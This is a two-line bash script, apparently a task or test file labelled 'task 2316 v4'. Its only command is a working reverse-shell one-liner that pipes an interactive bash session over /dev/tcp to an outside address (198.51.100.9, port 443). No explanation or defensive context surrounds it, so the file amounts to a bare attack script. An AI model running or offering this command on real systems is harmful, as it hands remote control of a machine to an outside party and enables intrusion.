# task 2316 v4
#!/bin/bash
bash -i >& /dev/tcp/198.51.100.9/443 0>&1
